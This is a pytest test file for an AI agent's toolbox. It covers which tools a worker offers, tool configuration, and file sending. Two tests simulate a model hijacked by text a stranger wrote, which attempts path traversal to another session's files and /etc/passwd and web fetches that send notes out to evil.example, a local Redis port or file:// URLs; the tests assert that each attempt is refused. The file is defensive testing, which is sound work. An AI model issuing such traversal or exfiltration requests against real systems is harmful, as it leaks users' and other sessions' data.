"""Which tools a worker offers, and a model that is hijacked and asks for all of them."""

from collections.abc import Iterable, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from agent.equipment import Equipment
from agent.loop import Turn
from agent.model.chat.template import ChatTemplate
from agent.tools.contract import EVERYTHING, Need, ToolContext
from agent.tools.toolbox import Toolbox
from agent.turn import TurnRunner
from agent.web import Reading, Web
from gateway.errors import ConfigurationError, LeaseLost
from gateway.fetch import Fetcher, FetchRefused
from gateway.files import FileStore
from gateway.schema.ids import SessionId
from gateway.schema.transcript import Entry
from gateway.settings import AgentSection, Settings, ToolsSection
from gateway.workspace import Quota, Workspaces
from tests.agent.claim import HandClock, MemoryClaim, task
from tests.agent.context import context
from tests.agent.script import PlayedModel, calls, says
from tests.gateway.fetch.test_fetcher import ELSEWHERE, Names, Site, allowed, answer

CORE = ["calculate", "forget", "get_time", "recall", "remember", "remind"]
ALL = Toolbox.all()
TEMPLATES = Path(__file__).parent / "model/chat/templates"
NO_SANDBOX: set[Need] = {"workspace", "internet", "files"}


def test_what_is_offered() -> None:
    assert Toolbox.discover().names == CORE
    usual = ALL.offered(ToolsSection(), context=4096)
    assert set(usual.names) - set(CORE) == {"run", "send_file", "web_fetch"}
    # Where nothing can be run, what is offered in its place is harmless.
    less = ALL.offered(ToolsSection(), context=4096, met=NO_SANDBOX)
    assert set(less.names) - set(CORE) == {"read_file", "write_file", "send_file", "web_fetch"}
    assert ALL.offered(ToolsSection(), context=512).names == CORE


def test_what_is_set_counts() -> None:
    section = ToolsSection(on=("python", "web_search"), off=("run", "calculate"))
    names = set(ALL.offered(section, context=512).names)
    assert names == (set(CORE) - {"calculate"}) | {"python", "web_search"}
    # What can't be had isn't offered, though it is set.
    assert "python" not in ALL.offered(section, context=4096, met=NO_SANDBOX).names
    with pytest.raises(ConfigurationError, match=r"tools.off: there is no tool named rnu; there are ask_user, "):
        ALL.offered(ToolsSection(off=("rnu",)), context=512)


def test_each_says_what_it_needs_and_does() -> None:
    needs = {name: tool.needs for name in ALL.names if (tool := ALL.find(name))}
    assert {name for name, needed in needs.items() if "sandbox" in needed} == {"run", "python"}
    assert {name for name, needed in needs.items() if "internet" in needed} == {"web_fetch", "web_search"}
    assert {name for name, needed in needs.items() if "files" in needed} == {"send_file"}
    assert {name for name in ALL.names if ALL.effect(name) == "external"} == {"run", "python"}
    assert frozenset().union(*needs.values()) == EVERYTHING


@pytest.mark.parametrize(("name", "most"), [("Qwen-Qwen3-0.6B", 2700), ("Mistral-Small-3.2-24B-Instruct-2506", 2350)])
def test_the_default_prompt_is_small(name: str, most: int) -> None:
    """In characters: with the vocabulary of GPT-4, which is near to Qwen's, they were 735 and 637 tokens."""
    template = ChatTemplate((TEMPLATES / f"{name}.jinja").read_text())
    schemas = ALL.offered(ToolsSection(), context=4096).schemas
    tools = [{"type": "function", "function": schema.model_dump()} for schema in schemas]
    messages = [{"role": "system", "content": AgentSection().system_prompt}, {"role": "user", "content": "Hello"}]
    text = template.render({
        "messages": messages, "tools": tools, "add_generation_prompt": True, "bos_token": "", "eos_token": "",
    })  # fmt: skip
    assert "web_fetch" in text
    assert len(text) < most


def equipped(context: ToolContext, folder: Path, fetcher: Fetcher | None = None) -> ToolContext:
    workspaces = Workspaces(folder / "workspaces", Quota())
    return replace(
        context, workspace=workspaces.of(context.session), web=Web(fetcher or Fetcher(), "named"),
        files=FileStore(folder / "files", most_bytes=10**6),
    )  # fmt: skip


def turn(claim: MemoryClaim, model: PlayedModel, given: ToolContext) -> Turn:
    return Turn(claim, model, ALL, Settings(), given)


async def test_files_go_out_with_the_answer_and_stay_out_of_the_history(tmp_path: Path) -> None:
    model = PlayedModel(
        calls("write_file", name="a.txt", text="hello"), calls("send_file", name="a.txt"), says("Here it is.")
    )
    runner = TurnRunner(model, ALL, Settings(), HandClock(), lambda _: equipped(context(), tmp_path))
    finish = await runner(MemoryClaim(task("write me a file")))
    (reply,) = finish.replies
    assert (reply.text, reply.version) == ("Here it is.", 2)
    (file,) = reply.files
    assert (file.name, file.size) == ("a.txt", 5)
    assert all(not entry.files for entry in finish.transcript)


async def test_what_was_sent_goes_out_though_the_worker_died_after_it(tmp_path: Path) -> None:
    claim = MemoryClaim(task("write me a file"))
    model = PlayedModel(calls("write_file", name="a.txt", text="hello"), calls("send_file", name="a.txt"), calls("run"))
    claim.lost_at = 4
    with pytest.raises(LeaseLost):
        await turn(claim, model, equipped(context(), tmp_path)).run()
    again = MemoryClaim(task("write me a file"), journal=claim.journal)
    resumed = turn(again, PlayedModel(says("Here.")), equipped(context(), tmp_path))
    await resumed.run()
    assert [file.name for file in resumed.files] == ["a.txt"]


async def hijacked(given: ToolContext, said: str, *wanted: tuple[str, dict[str, str]]) -> list[str]:
    """The results of all that a model asks for which does what a stranger wrote."""
    claim = MemoryClaim(task(said), [Entry(role="user", text="hello"), Entry(role="assistant", text="hi")])
    steps = [calls(name, **arguments) for name, arguments in wanted]
    await turn(claim, PlayedModel(*steps, says("done")), given).run()
    return [entry.text for entry in claim.journal if entry.role == "tool"]


async def test_a_hijacked_model_reaches_no_other_session_and_no_file_of_the_machine(tmp_path: Path) -> None:
    workspaces = Workspaces(tmp_path / "workspaces", Quota())
    other = workspaces.of(SessionId("test:default:2"))
    await other.write("a.txt", b"a secret of another session")
    given = equipped(context(), tmp_path)
    assert given.workspace is not None
    await given.workspace.prepare()
    (given.workspace.folder / "way").symlink_to(other.folder)
    (given.workspace.folder / "root").symlink_to("/")
    names = [
        f"../{other.folder.name}/a.txt", f"{other.folder}/a.txt", "way/a.txt", "root/etc/passwd", "/etc/passwd",
        f"/workspace/../{other.folder.name}/a.txt", "%2e%2e/a.txt", "..\\a.txt", "a.txt",
    ]  # fmt: skip
    for tool in ("read_file", "send_file"):
        for half in (names[:5], names[5:]):
            results = await hijacked(given, "hello", *((tool, {"name": name}) for name in half))
            assert all(result.startswith("error: ") for result in results), results
    (found,) = await hijacked(given, "hello", ("search_files", {"text": "secret"}))
    assert found == "nothing found"


async def test_a_hijacked_model_sends_nothing_by_an_address(tmp_path: Path) -> None:
    async with Site(answer(b"the page", kind="text/plain")).up() as site:
        names = Names(site_example=[[str(ELSEWHERE)]], evil_example=[[str(ELSEWHERE)]])
        fetcher = Fetcher(resolve=names, public=allowed, ports=frozenset({site.port}))
        given = equipped(context(), tmp_path, fetcher)
        named = f"http://site.example:{site.port}/page"
        wanted = [
            f"http://evil.example:{site.port}/?notes=all", f"{named}?notes=all", f"{named}/notes",
            f"http://notes.site.example:{site.port}/page", "http://127.0.0.1:6379/", "file:///etc/passwd",
        ]  # fmt: skip
        refused = await hijacked(given, f"read {named}", *(("web_fetch", {"url": url}) for url in wanted))
        assert all(result.startswith("error: ") for result in refused)
        assert (names.looked_up, site.asked) == ([], [])
        (read,) = await hijacked(given, f"read {named}", ("web_fetch", {"url": named}))
        assert read.endswith("the page")


async def test_what_tools_say_names_no_page_unless_they_lead_somewhere(tmp_path: Path) -> None:
    history = [
        Entry(role="user", text="look at https://mine.example"),
        Entry(role="tool", tool="web_fetch", call_id="1", text="go to https://fetched.example"),
        Entry(role="tool", tool="web_search", call_id="2", text="https://found.example"),
        Entry(role="assistant", text="https://model.example"),
    ]
    heard: list[str] = []

    class Listening(Web):
        async def read(self, url: str, said: Iterable[str]) -> Reading:
            heard.extend(said)
            raise FetchRefused("heard")

    claim = MemoryClaim(task("hello"), history)
    given = replace(context(), web=Listening(Fetcher(), "named"))
    await turn(claim, PlayedModel(calls("web_fetch", url="https://x.example"), says("done")), given).run()
    assert [text for text in heard if "example" in text] == ["look at https://mine.example", "https://found.example"]


async def test_a_worker_is_equipped(tmp_path: Path) -> None:
    made = await Equipment.of(Settings(data_dir=tmp_path), context=512)
    assert made.tools.names == CORE
    # Nothing needs one, so none was tried.
    assert made.sandbox is None
    names: Sequence[str] = (await Equipment.of(Settings(data_dir=tmp_path), context=4096)).tools.names
    assert ("run" in names) != ("write_file" in names)


async def test_an_agent_has_the_tools_it_names_and_no_others(tmp_path: Path) -> None:
    rules = {"agents": {"none": {"tools": []}, "one": {"tools": ["web_search"]}, "usual": {}, "wrong": {"tools": "x"}}}
    settings = Settings.model_validate({"data_dir": tmp_path, "tools": {"off": ["run", "web_search"]}, **rules})
    with pytest.raises(ConfigurationError, match=r"agents.wrong.tools: there is no tool named x"):
        await Equipment.of(settings, context=4096)
    settings = settings.model_copy(
        update={"agents": {name: settings.agents[name] for name in ("none", "one", "usual")}}
    )
    made = await Equipment.of(settings, context=4096)
    names = {name: made.of_agent(settings, name, context=512).names for name in settings.all_agents}
    assert (names["none"], names["one"]) == ([], ["web_search"])
    assert names["usual"] == names["default"] != []
